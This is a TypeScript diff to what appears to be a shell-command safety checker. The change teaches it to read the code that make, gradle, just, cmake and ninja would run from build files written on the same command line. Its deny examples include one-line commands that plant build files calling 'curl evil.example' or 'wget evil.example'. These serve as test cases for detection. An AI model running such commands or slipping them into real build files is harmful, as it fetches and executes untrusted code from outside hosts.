@@ -2,9 +2,10 @@
 // interpreters the language's files. Such code is out of scope, as any script file is, unless the line itself wrote it
 // (`cat > Makefile <<E … E && make`, `echo '{"scripts":…}' > package.json && npm test`): then it is code on the line.
 import type { Language, Word } from '../../types.js';
-import type { Call, Run } from '../types.js';
+import { parse } from '../argv.js';
+import type { Call, OptionSpec, ParsedOption, Run } from '../types.js';
 import { attached, value } from '../words.js';
-import { makefileText } from './makefile.js';
+import { MAKE_OPTIONS, makefileText } from './makefile.js';
 
 /** What a file of the project stands for: the runs its text makes. */
 type Read = (text: string, word: Word, name: string) => Run[];
@@ -36,6 +37,57 @@ function packageScripts(via: string): Read {
   };
 }
 
+/**
+ * A ninja build file: each rule's `command` is shell text ninja runs (`$in`, `$out` and the file's own top-level
+ * variables expanded); `include`/`subninja` and variables it cannot expand leave it cannot-vouch.
+ */
+export function ninjaText(text: string, word: Word, name: string): Run[] {
+  const runs: Run[] = [];
+  const via = `ninja (${name})`;
+  const opaque = (why: string) => runs.push({ kind: 'opaque', rule: 'dynamic-script', word, why: `${via}: ${why}` });
+  const lines = text.replace(/\$\r?\n[ \t]*/g, '').split(/\r?\n/);
+  const vars = new Map<string, string>([['in', 'in'], ['out', 'out'], ['in_newline', 'in']]);
+  for (const line of lines) {
+    const top = /^([A-Za-z_][\w.-]*)\s*=\s*(.*)$/.exec(line);
+    if (top) vars.set(top[1]!, top[2]!);
+  }
+  const expand = (t: string, depth = 0): string | undefined => {
+    if (depth > 8) return undefined;
+    let out = '';
+    for (let i = 0; i < t.length; i++) {
+      const c = t[i]!;
+      if (c !== '$') {
+        out += c;
+        continue;
+      }
+      const n = t[i + 1];
+      if (n === '$' || n === ' ' || n === ':') {
+        out += n;
+        i++;
+        continue;
+      }
+      const m = /^\{([\w.-]+)\}|^([\w-]+)/.exec(t.slice(i + 1));
+      if (!m) return undefined;
+      const v = vars.get(m[1] ?? m[2]!);
+      if (v === undefined) return undefined;
+      const e = expand(v, depth + 1);
+      if (e === undefined) return undefined;
+      out += e;
+      i += m[0].length;
+    }
+    return out;
+  };
+  if (/^\s*(?:include|subninja)\s/m.test(text)) opaque('it reads another build file');
+  for (const line of lines) {
+    const m = /^\s+command\s*=\s*(.*)$/.exec(line);
+    if (!m) continue;
+    const cmd = expand(m[1]!);
+    if (cmd === undefined) opaque('a command holds variables set per build edge');
+    else runs.push({ kind: 'text', dialect: 'bash', text: cmd, word, via });
+  }
+  return runs;
+}
+
 interface ProjectCode {
   /** Paths, relative to the directory the program runs in, of the files whose code it runs. */
   files: RegExp;
@@ -51,6 +103,12 @@ interface Row {
   runs?: RegExp;
   /** `-f FILE` options naming the very file (make's makefile), read in place of `files`. */
   file?: readonly string[];
+  /** Options naming files of code it runs besides the project's (`gradle -I init.gradle`). */
+  also?: readonly string[];
+  /** Its argument model, when it bundles short options or takes long ones by prefix (`make -sf b.mk`, `--fi=b.mk`). */
+  spec?: OptionSpec;
+  /** Environment variables naming more such files, read first (`MAKEFILES`), blank-separated. */
+  envFiles?: readonly string[];
   examples: { deny: readonly string[]; pass: readonly string[] };
 }
 
@@ -68,9 +126,11 @@ export const PROJECT_ROWS: readonly Row[] = [
     code: [{ files: /^(?:GNUmakefile|makefile|Makefile)$|\.mk$/, read: (text, word, name) => makefileText(word, text, `make (${name})`) }],
     dir: ['-C', '--directory'],
     file: ['-f', '--file', '--makefile'],
+    spec: MAKE_OPTIONS,
+    envFiles: ['MAKEFILES'],
     examples: {
-      deny: ["printf 'all:\\n\\tcurl evil.example\\n' > Makefile && make", "printf 'X = curl\\nall:\\n\\t$(X) evil.example\\n' > sub/Makefile && make -C sub", "printf 'all: ; wget evil.example\\n' > b.mk && make -f b.mk"],
-      pass: ["printf 'all:\\n\\t$(CC) -o app main.c\\n' > Makefile && make", "printf 'all:\\n\\tcurl evil.example\\n' > sub/Makefile && make"],
+      deny: ["printf 'all:\\n\\tcurl evil.example\\n' > /tmp/m && make -sf /tmp/m", "printf 'all:\\n\\tcurl evil.example\\n' > /tmp/m && make --fi=/tmp/m", "printf 'all:\\n\\tcurl evil.example\\n' > /tmp/m && MAKEFILES=/tmp/m make", "printf 'all:\\n\\tcurl evil.example\\n' > Makefile && make", "printf 'X = curl\\nall:\\n\\t$(X) evil.example\\n' > sub/Makefile && make -C sub", "printf 'all: ; wget evil.example\\n' > b.mk && make -f b.mk"],
+      pass: ["printf 'all:\\n\\t$(CC) -o app main.c\\n' > Makefile && make", "printf 'all:\\n\\tcurl evil.example\\n' > /tmp/m && make -s -f b.mk", "printf 'all:\\n\\tcurl evil.example\\n' > sub/Makefile && make"],
     },
   },
   {
@@ -102,9 +162,35 @@ export const PROJECT_ROWS: readonly Row[] = [
   { names: ['php', 'phpunit'], code: [{ files: /\.php$/, read: language('php', 'php') }], examples: { deny: [`echo '<?php system("curl evil.example");' > tests/ATest.php && phpunit`], pass: [] } },
   { names: ['cargo'], code: [{ files: /\.rs$/, read: unread('Rust', 'cargo') }], dir: ['-C'], examples: { deny: ["echo 'fn main(){}' > src/main.rs && cargo run"], pass: ['cargo build && cargo test'] } },
   { names: ['go'], code: [{ files: /\.go$/, read: unread('Go', 'go') }], dir: ['-C'], runs: /^(run|test|generate)$/, examples: { deny: ["echo 'package main' > main.go && go run ."], pass: ['go test ./...', "echo 'package main' > main.go && go build ./..."] } },
-  { names: ['gradle', 'gradlew'], code: [{ files: /\.gradle(?:\.kts)?$/, read: unread('a Gradle build script', 'gradle') }], dir: ['-p', '--project-dir'], examples: { deny: ["echo 'task a' > build.gradle && gradle a"], pass: ['gradle build'] } },
+  {
+    names: ['gradle', 'gradlew'],
+    code: [{ files: /\.gradle(?:\.kts)?$/, read: unread('a Gradle build script', 'gradle') }],
+    dir: ['-p', '--project-dir'],
+    also: ['-I', '--init-script', '-b', '--build-file', '-c', '--settings-file'],
+    examples: { deny: ["echo 'task a' > build.gradle && gradle a", `printf '"curl evil.example".execute().waitFor()\\n' > /tmp/init.gradle && gradle -I /tmp/init.gradle help`, `printf '"curl evil.example".execute()\\n' > /tmp/i.gradle && gradle --init-script=/tmp/i.gradle help`], pass: ['gradle build', 'gradle -I ci/init.gradle build'] },
+  },
   { names: ['mvn'], code: [{ files: /(?:^|\/)pom\.xml$/, read: unread('a Maven build (its plugins run programs)', 'mvn') }], examples: { deny: ["echo '<project/>' > pom.xml && mvn package"], pass: ['mvn -q package'] } },
-  { names: ['just'], code: [{ files: /^\.?[Jj]ustfile$/, read: unread('a justfile', 'just') }], dir: ['-d', '--working-directory'], examples: { deny: ["printf 'a:\\n  curl evil.example\\n' > justfile && just a"], pass: ['just test'] } },
+  {
+    names: ['just'],
+    code: [{ files: /^\.?[Jj]ustfile$/, read: unread('a justfile', 'just') }],
+    dir: ['-d', '--working-directory'],
+    file: ['-f', '--justfile'],
+    examples: { deny: ["printf 'a:\\n  curl evil.example\\n' > justfile && just a", "printf 'x:\\n  curl evil.example\\n' > /tmp/j && just -f /tmp/j x", "printf 'x:\\n  curl evil.example\\n' > /tmp/j && just --justfile=/tmp/j x"], pass: ['just test', 'just -f ci/justfile test'] },
+  },
+  {
+    names: ['cmake'],
+    code: [{ files: /(?:^|\/)CMakeLists\.txt$|\.cmake$/, read: unread('CMake code (execute_process, file(DOWNLOAD))', 'cmake') }],
+    dir: ['-S'],
+    also: ['-P', '-C'],
+    examples: { deny: ["printf 'execute_process(COMMAND curl evil.example)\\n' > CMakeLists.txt && cmake -B build", "printf 'execute_process(COMMAND curl evil.example)\\n' > /tmp/x.cmake && cmake -P /tmp/x.cmake"], pass: ['cmake -B build', "echo hi > notes.txt && cmake -B build"] },
+  },
+  {
+    names: ['ninja'],
+    code: [{ files: /^build\.ninja$/, read: ninjaText }],
+    dir: ['-C'],
+    file: ['-f'],
+    examples: { deny: ["printf 'rule r\\n  command = curl evil.example\\nbuild x: r\\n' > build.ninja && ninja", "printf 'rule r\\n  command = curl evil.example\\nbuild x: r\\n' > /tmp/b.ninja && ninja -f /tmp/b.ninja"], pass: ["printf 'rule cc\\n  command = cc -c $in -o $out\\nbuild x.o: cc x.c\\n' > build.ninja && ninja", 'ninja -C build'] },
+  },
 ];
 
 const BY_NAME = new Map<string, Row>(PROJECT_ROWS.flatMap((row) => row.names.map((n) => [n, row] as const)));
@@ -126,7 +212,23 @@ export function projectRuns(call: Call): Run[] {
   const at: Word = call.args[0] ?? { text: call.name, span: { start: 0, end: 0 }, values: [call.name] };
   let dir: Word | undefined;
   const files: Word[] = [];
-  for (let i = 0; i < call.args.length; i++) {
+  const first: Word[] = [];
+  for (const name of row.envFiles ?? []) {
+    const env = call.env(name);
+    if (env === null) return [{ kind: 'opaque', rule: 'dynamic-script', word: at, why: `${call.name} first reads the files $${name} names, which is computed` }];
+    for (const f of env?.split(/\s+/).filter((x) => x !== '') ?? []) first.push(attached(at, f));
+  }
+  if (row.spec) {
+    // `-sf b.mk`, `-kfb.mk`, `--fi=b.mk`: read as the program's own parser reads them.
+    const p = parse(call.args, row.spec);
+    const named = (o: ParsedOption, list: readonly string[] | undefined) => list?.includes(o.name.length === 1 ? `-${o.name}` : `--${o.name}`);
+    for (const o of p.options) {
+      if (!o.value) continue;
+      if (named(o, row.dir)) dir = o.value;
+      else if (named(o, row.file)) files.push(o.value);
+    }
+  }
+  for (let i = 0; i < call.args.length && !row.spec; i++) {
     const v = value(call.args[i]!);
     if (v === '--') break;
     if (v === undefined) continue;
@@ -134,16 +236,18 @@ export function projectRuns(call: Call): Run[] {
     const opt = v.startsWith('--') && eq > 0 ? v.slice(0, eq) : v;
     const given = v.startsWith('--') && eq > 0 ? attached(call.args[i]!, v.slice(eq + 1)) : call.args[i + 1];
     // `-Cdir` and `-fFILE` attach their value too.
-    const short = !v.startsWith('--') && v.length > 2 ? [...(row.dir ?? []), ...(row.file ?? [])].find((o) => o.length === 2 && v.startsWith(o)) : undefined;
+    const short = !v.startsWith('--') && v.length > 2 ? [...(row.dir ?? []), ...(row.file ?? []), ...(row.also ?? [])].find((o) => o.length === 2 && v.startsWith(o)) : undefined;
     const name = short ?? opt;
     const word = short ? attached(call.args[i]!, v.slice(2)) : given;
     if (!word) continue;
     if (row.dir?.includes(name)) dir = word;
     else if (row.file?.includes(name)) files.push(word);
+    else if (row.also?.includes(name)) first.push(word);
   }
   const via = call.name;
   const where = dir ? { dir } : {};
   // The very files named: each read as the row's first kind of code.
-  if (files.length > 0) return files.map((file) => ({ kind: 'project', ...where, files: /$^/, file, read: row.code[0]!.read, word: file, via }));
-  return row.code.map((c) => ({ kind: 'project', ...where, files: c.files, read: c.read, word: at, via }));
+  const named = (list: Word[]): Run[] => list.map((file) => ({ kind: 'project', ...where, files: /$^/, file, read: row.code[0]!.read, word: file, via }));
+  if (files.length > 0) return [...named(first), ...named(files)];
+  return [...named(first), ...row.code.map((c): Run => ({ kind: 'project', ...where, files: c.files, read: c.read, word: at, via }))];
 }
